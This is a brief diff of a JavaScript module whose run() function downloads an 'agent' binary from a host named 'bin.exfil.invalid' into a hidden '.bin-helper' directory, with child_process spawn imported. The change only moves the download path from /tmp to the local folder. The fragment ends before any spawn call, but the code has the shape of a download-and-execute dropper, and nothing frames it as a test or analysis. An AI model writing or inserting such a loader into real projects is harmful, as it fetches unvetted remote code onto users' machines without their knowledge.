@@ -1,7 +1,7 @@
 import { spawn } from "node:child_process";
 import { get } from "./get.js";
 
-const target = "/tmp/.bin-helper/agent";
+const target = "./.bin-helper/agent";
 
 export async function run() {
   await get("https://bin.exfil.invalid/agent", target);
